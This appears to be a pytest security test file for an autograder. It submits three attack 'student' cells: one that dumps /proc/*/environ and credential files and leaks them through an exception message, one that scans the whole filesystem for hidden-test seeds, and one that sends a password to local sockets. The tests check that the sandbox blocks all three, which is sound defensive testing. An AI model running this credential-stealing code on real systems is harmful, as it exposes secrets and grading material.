"""Grading that keeps secrets (issue 28): what a student's code must not learn while it is graded.

Each attack is handed in as a submission of 03, in its `padding_mask` solution cell: a solution cell runs both
in the student's kernel (which prints what it found into the graded notebook) and in the grader's hidden-test
worker (which has one way out: the message of an exception its `padding_mask` raises, which the grader writes
into the graded notebook as the failed verdict). The class is graded twice, forked from the warm pool and cold
(AUTOGRADE_WARM=0) and on a Dask LocalCluster's worker (`--dask local:1`), with made-up credentials in the grader's
environment:
- the thief prints its whole environment (os.environ and every /proc/*/environ it can read): no credential
  appears in the graded notebook, the feedback, the grade log, the gradebook or the export; nor does it see
  what the grader's home folder holds (~/.pgpass, cloud credentials, ssh keys);
- the hunter searches every file it can open for the hidden-test regions and their seeds: it finds only a
  decoy it wrote itself (which shows that the search reads what it can reach), in the kernel and in the worker
  (on a machine that holds a second copy of the course, a second checkout, it finds that copy's notebooks:
  rightly, since the grader cannot know of it; README: name it in AUTOGRADE_HIDE_ALSO);
  and the worker cannot open the full course package's reference solutions by their path either;
- the caller connects to a TCP server this test runs on 127.0.0.1, and to a unix socket it opens under /run (where
  PostgreSQL's lives), and sends what it knows: no connection is made, and the submission is graded all the same.
"""

import csv
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import nbformat
import pytest

from autograde.engine import sandbox
from autograde.engine.log import read_log
from autograde.engine.notebook import grade_meta
from autograde.steps import demo

NB = "03_self_attention"
FULL = 8
SECRET = f"made-up-{uuid.uuid4().hex}"  # in every credential below: one search finds any of them
CREDENTIALS = {
    "PGPASSWORD": SECRET,  # libpq's password for a PostgreSQL gradebook (`--db`, `migrate-db`)
    "DATABASE_URL": f"postgresql://grader:{SECRET}@127.0.0.1:5432/course",
    "AWS_SECRET_ACCESS_KEY": SECRET,
    "GITHUB_TOKEN": SECRET,
    "JUPYTER_TOKEN": SECRET,  # a Jupyter server's token: JUPYTER_* is not let through wholesale
    "JUPYTERHUB_API_TOKEN": SECRET,
}

# Only in the worker: an isolated interpreter that is no kernel.
IN_WORKER = '(sys.flags.isolated and "ipykernel" not in sys.modules)'

THIEF = '''
import json, os, sys
_stolen = {}
for _pid in ["self", "1"] + sorted(p for p in os.listdir("/proc") if p.isdigit()):
    try:
        _raw = open(f"/proc/{_pid}/environ", "rb").read()
    except OSError:
        continue
    for _item in _raw.split(b"\\0"):
        _key, _, _value = _item.decode(errors="replace").partition("=")
        if _key:
            _stolen.setdefault(_key, _value)
_stolen.update(os.environ)
# what a thief looks for first (the worker's way out holds 4000 characters)
_first = sorted(_stolen, key=lambda k: not any(w in k for w in ("PASS", "TOKEN", "SECRET", "KEY", "URL")))
_dump = json.dumps({k: _stolen[k] for k in _first})
print("ENVIRON " + _dump)
try:  # where ~/.pgpass, ~/.aws/credentials and ssh keys are kept
    print("HOME " + json.dumps(sorted(os.listdir("GRADER_HOME"))))
except OSError as error:
    print("HOME " + json.dumps(type(error).__name__))
_root_only = {}
for _path in ("/etc/shadow", "/etc/gshadow", "/etc/ssh/ssh_host_ed25519_key"):  # the machine's, only root's
    try:
        with open(_path, "rb") as _f:
            _root_only[_path] = len(_f.read())
    except OSError as error:
        _root_only[_path] = type(error).__name__
print("ROOTONLY " + json.dumps(_root_only))
if IN_WORKER:
    def padding_mask(lengths, T):
        raise RuntimeError("WORKERENV " + _dump)
'''

HUNTER = '''
import json, os, re, sys, time
def _hunt():
    """Every hidden-test seed and hidden region in a file this process can open, and how many it read."""
    needle = re.compile(("hidden" + "_test").encode()
                        + rb"""\\(\\\\?["'](\\w+)\\\\?["'],\\s*\\w+,\\s*seed=(-?\\d+)\\)""")
    begin = ("BEGIN " + "HIDDEN TESTS").encode()
    with open("decoy-hidden.txt", "w") as f:  # what the search must find, to show it reads what it can reach
        f.write("### " + begin.decode() + "\\n" + "hidden" + '_test("decoy", decoy, seed=424242)\\n')
    # Not the system's and the Python environment's own files (read-only, and thousands: nbgrader's own tests
    # hold hidden regions of their own), nor the kernel's file systems
    skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib32", "/lib64", "/libx32", "/bin", "/sbin", "/boot", "/snap"}
    skip |= {os.path.realpath(p) for p in (sys.prefix, sys.base_prefix, sys.exec_prefix)}
    names = {"site-packages", "dist-packages", "node_modules", ".git", "__pycache__", ".pyenv", ".rustup", ".cargo",
             ".m2"}
    seeds, begins, where, read = set(), [], set(), 0
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if d not in names and os.path.join(root, d) not in skip]
        for name in files:
            path = os.path.join(root, name)
            try:
                if not os.path.isfile(path) or os.path.getsize(path) > 64 * 2**20:
                    continue
                with open(path, "rb") as f:
                    data = f.read()
            except OSError:
                continue
            read += 1
            if begin in data:
                begins.append(name if name == "decoy-hidden.txt" and os.path.samefile(path, name) else path)
            found = {(m.group(1).decode(), int(m.group(2))) for m in needle.finditer(data)}
            if found - {("decoy", 424242)}:
                where.add(path)
            seeds |= found
    return {"seeds": sorted(seeds), "begins": sorted(begins), "where": sorted(where)[:20], "read": read}
_found = _hunt()
_found["reference"] = os.path.exists("REFERENCE")  # the full course package's solutions, by their path
print("HUNT " + json.dumps(_found))
if IN_WORKER and (_found["seeds"] != [("decoy", 424242)] or _found["begins"] != ["decoy-hidden.txt"]
                  or _found["reference"]):
    def padding_mask(lengths, T):
        raise RuntimeError("WORKERHUNT " + json.dumps(_found)[:3000])
'''

CALLER = '''
import os, socket, sys
def _call(address, what):
    try:
        family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
        with socket.socket(family) as s:
            s.settimeout(5)
            s.connect(address)
            s.sendall(what.encode())
        return "connected"
    except OSError as error:
        return f"{type(error).__name__}({error.errno})"
_where = "worker" if IN_WORKER else "kernel"
print("CALLED " + _call(("127.0.0.1", PORT), f"{_where} {os.environ.get('PGPASSWORD', '')}"))
print("UNIXCALLED " + _call("UNIX_SOCKET", f"{_where} {os.environ.get('PGPASSWORD', '')}"))
'''


class Listener:
    """A TCP server on 127.0.0.1 (or, given a path, a unix socket there: where PostgreSQL's lives, /run) that
    records every connection made to it and what it was sent."""

    def __init__(self, path=None):
        if path:
            self.sock = socket.socket(socket.AF_UNIX)
            self.sock.bind(path)
            self.sock.listen()
            os.chmod(path, 0o777)  # (as PostgreSQL's: anyone may connect)
        else:
            self.sock = socket.create_server(("127.0.0.1", 0))
            self.port = self.sock.getsockname()[1]
        self.path, self.heard = path, []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                try:
                    self.heard.append(conn.recv(4096).decode(errors="replace"))
                except OSError:
                    self.heard.append("")

    def close(self):
        self.sock.close()
        if self.path:
            os.unlink(self.path)


def _attack(good, code, port=0, unix_socket=""):
    """03's padding_mask solution cell, correct, then the attack."""
    import course_lib.solutions

    reference = os.path.join(os.path.dirname(course_lib.solutions.__file__), "self_attention.py")
    return good["padding_mask"] + "\n" + code.replace("IN_WORKER", IN_WORKER).replace("PORT", str(port)).replace(
        "REFERENCE", reference).replace("GRADER_HOME", str(Path.home())).replace("UNIX_SOCKET", unix_socket)


@pytest.fixture(scope="module")
def graded(tmp_path_factory, release, repo):
    """The three attacks graded warm, cold and on Dask, with the credentials in the grader's environment; then the
    feedback and the export. Per run: the log, the graded notebooks, every file of the course folder and the
    CSV as text. Each run after the first grades the class again in the same course folder (`--force`, as an
    instructor regrades): the canary that passed in the first run under the same conditions is not graded again."""
    root = tmp_path_factory.mktemp("secrets")
    listener = Listener()
    run_dir = "/run" if os.access("/run", os.W_OK) else str(root)  # (not root: the test that reads it is skipped)
    unix_listener = Listener(os.path.join(run_dir, f"autograde-test-{uuid.uuid4().hex[:8]}.sock"))
    runs = {}
    # A copy of the course the grader was not told of, at the top of the file system (an instructor's clone, a
    # backup): the hunter must not find its seeds either
    stray = Path(f"/autograde-test-stray-{uuid.uuid4().hex[:8]}") if os.access("/", os.W_OK) else None
    if stray:
        stray.mkdir()
        shutil.copy(repo / "notebooks" / f"{NB}.ipynb", stray)
    try:
        course_dir, released, good = release(root / "course", NB)
        class_ = {
            "thief": demo.student_notebook(released, {**good, "padding_mask": _attack(good, THIEF)}),
            "hunter": demo.student_notebook(released, {**good, "padding_mask": _attack(good, HUNTER)}),
            "caller": demo.student_notebook(released, {**good, "padding_mask": _attack(
                good, CALLER, listener.port, unix_listener.path)}),
        }
        for student, nb in class_.items():
            demo.hand_in(root / "subs", student, NB, nb)
        for run, warm in (("warm", "1"), ("cold", "0"), ("dask", "1")):
            env = {**os.environ, **CREDENTIALS, "AUTOGRADE_WARM": warm}
            said = ""
            how = ["--dask", "local:1"] if run == "dask" else ["--jobs", "1"]  # a Dask LocalCluster's worker too
            again = [] if run == "warm" else ["--force"]
            for args in (["grade", root / "subs", *how, *again, "--no-progress"], ["feedback"],
                         ["export", "--csv", root / f"{run}.csv"]):
                done = subprocess.run([sys.executable, "-m", "autograde", *map(str, args), "--course-dir",
                                       str(course_dir)], capture_output=True, text=True, env=env)
                assert done.returncode == 0, done.stdout + done.stderr
                said += done.stdout + done.stderr
            files = {}
            for folder, _, names in os.walk(course_dir):
                for name in names:
                    path = os.path.join(folder, name)
                    with open(path, "rb") as f:
                        files[os.path.relpath(path, course_dir)] = f.read().decode(errors="replace")
            files["(the export)"] = (root / f"{run}.csv").read_text()
            files["(what the commands said)"] = said
            runs[run] = {
                "log": read_log(course_dir),
                "nb": {s: nbformat.read(course_dir / "autograded" / s / NB / f"{NB}.ipynb", as_version=4)
                       for s in class_},
                "files": files,
                "rows": {r["student_id"]: r for r in csv.DictReader(open(root / f"{run}.csv"))},
            }
    finally:
        listener.close()
        unix_listener.close()
        if stray:
            shutil.rmtree(stray)
    runs["heard"] = listener.heard + unix_listener.heard
    return runs


RUNS = ["warm", "cold", "dask"]


def _outputs(nb, grade_id):
    """Everything the cell `grade_id` shows: its printed text and its errors."""
    for cell in nb.cells:
        if grade_meta(cell).get("grade_id") == grade_id:
            return "\n".join(o.get("text", "") + o.get("evalue", "") for o in cell.get("outputs", []))
    raise AssertionError(f"no cell {grade_id}")


def _printed(nb, marker):
    """The JSON (or word) printed after `marker` in the attack's cell."""
    for line in _outputs(nb, "padding_mask").splitlines():
        if line.startswith(marker + " "):
            return line[len(marker) + 1:]
    raise AssertionError(f"{marker} not printed: {_outputs(nb, 'padding_mask')[:2000]}")


@pytest.mark.parametrize("run", RUNS)
def test_the_runs_are_the_pool_and_the_cold_path(graded, run):
    """warm: forked from the pool; cold: started cold; dask: on a LocalCluster's worker (its own pool)."""
    for student, nb in graded[run]["nb"].items():
        assert nb.metadata["autograde"]["forked"] == ([] if run == "cold" else ["kernel", "worker"]), student


@pytest.mark.parametrize("run", RUNS)
def test_no_credential_of_the_graders_environment_reaches_the_students_code(graded, run):
    nb = graded[run]["nb"]["thief"]
    stolen = json.loads(_printed(nb, "ENVIRON"))
    assert "PATH" in stolen  # the thief reads its environment: what it prints is all there is
    verdict = _outputs(graded[run]["nb"]["thief"], "test_padding_mask")
    assert "WORKERENV" in verdict  # and the worker's way out works: it wrote its environment into the notebook
    for name in CREDENTIALS:
        assert name not in stolen, name
    leaked = sorted(path for path, text in graded[run]["files"].items() if SECRET in text)
    assert not leaked, f"the secret is in {leaked}"


@pytest.mark.skipif(not sandbox.available(), reason="files are hidden from the student's code only by the sandbox "
                                                     "(Linux, as root)")
@pytest.mark.parametrize("run", RUNS)
def test_the_graders_home_folder_is_hidden(graded, run):
    """Empty, but for the way to the Python the kernel runs on where it lies there (a pyenv's)."""
    home = Path.home().resolve()
    shown = {Path(p).resolve().relative_to(home).parts[0] for p in (sys.prefix, sys.base_prefix)
             if Path(p).resolve().is_relative_to(home) and Path(p).resolve() != home}
    seen = json.loads(_printed(graded[run]["nb"]["thief"], "HOME"))
    assert isinstance(seen, str) or set(seen) <= shown, seen  # (a name: the error listing it raised)


@pytest.mark.skipif(not sandbox.available(), reason="files are hidden from the student's code only by the sandbox "
                                                     "(Linux, as root)")
@pytest.mark.parametrize("run", RUNS)
def test_what_only_root_may_read_reads_empty(graded, run):
    """The student's code runs as root without capabilities: a file only its owner, root, may read would be its
    own to read (the machine's password hashes, its ssh host key). Hidden: empty, or not there."""
    read = json.loads(_printed(graded[run]["nb"]["thief"], "ROOTONLY"))
    for path, got in read.items():
        assert got in (0, "FileNotFoundError", "PermissionError"), (path, got)
    assert os.path.exists("/etc/shadow") <= (read["/etc/shadow"] == 0)  # (found, and read as empty)


@pytest.mark.parametrize("run", RUNS)
def test_the_thief_is_graded_as_what_it_handed_in(graded, run):
    """Its worker's padding_mask raises (its way out): one point lost, the rest graded as usual."""
    assert graded[run]["log"][f"{NB}/thief"].score == FULL - 1
    assert float(graded[run]["rows"]["thief"]["score"]) == FULL - 1


@pytest.mark.skipif(not sandbox.available(), reason="files are hidden from the student's code only by the sandbox "
                                                     "(Linux, as root)")
@pytest.mark.parametrize("run", RUNS)
def test_no_hidden_test_region_or_seed_in_any_file_the_students_code_can_open(graded, run):
    found = json.loads(_printed(graded[run]["nb"]["hunter"], "HUNT"))
    assert found["read"] > 0
    assert found["where"] == [], found["where"]  # (the files that hold a seed)
    assert found["seeds"] == [["decoy", 424242]], found["seeds"]  # the kernel's: its own decoy only
    assert found["begins"] == ["decoy-hidden.txt"], found["begins"]
    assert found["reference"]  # (the kernel sees the full course package: its code decides no verdict)
    assert "WORKERHUNT" not in _outputs(graded[run]["nb"]["hunter"], "test_padding_mask")  # the worker's too
    assert graded[run]["log"][f"{NB}/hunter"].score == FULL


@pytest.mark.parametrize("run", RUNS)
def test_the_seeds_are_kept_by_the_grader_so_the_hidden_verdicts_still_decide(graded, run):
    """The hidden verdicts ran (the grader read the seeds from the source notebook): a correct class scores full."""
    for student in ("hunter", "caller"):
        assert graded[run]["log"][f"{NB}/{student}"].score == FULL, student


@pytest.mark.skipif(not sandbox.available(), reason="the network namespace needs Linux and root")
def test_no_connection_leaves_the_students_code(graded):
    assert graded["heard"] == []
    for run in RUNS:
        for marker in ("CALLED", "UNIXCALLED"):  # 127.0.0.1, and a unix socket under /run
            called = _printed(graded[run]["nb"]["caller"], marker)
            assert called != "connected" and re.fullmatch(r"\w+\(\d+\)", called), (marker, called)
        assert graded[run]["log"][f"{NB}/caller"].score == FULL  # the attempt costs nothing but the attempt


def test_where_the_network_cannot_be_cut_grading_refuses_unless_allowed(tmp_path, released_course):
    """As on a machine without root (AUTOGRADE_SANDBOX=0: no namespace is made): `grade` names the risk and
    grades nothing; with --allow-network it goes on, and says the risk again."""
    course_dir = released_course(tmp_path / "course", NB)
    (tmp_path / "subs").mkdir()
    env = {k: v for k, v in os.environ.items() if k != "AUTOGRADE_ALLOW_NETWORK"}
    env["AUTOGRADE_SANDBOX"] = "0"
    command = [sys.executable, "-m", "autograde", "grade", str(tmp_path / "subs"), "--course-dir", str(course_dir),
               "--no-progress"]
    refused = subprocess.run(command, capture_output=True, text=True, env=env)
    assert refused.returncode != 0, refused.stdout + refused.stderr
    assert "not cut off from the network" in refused.stderr and "--allow-network" in refused.stderr, refused.stderr
    allowed = subprocess.run([*command, "--allow-network"], capture_output=True, text=True, env=env)
    assert allowed.returncode == 0, allowed.stdout + allowed.stderr
    assert "warning: the students' code is not cut off from the network" in allowed.stderr, allowed.stderr
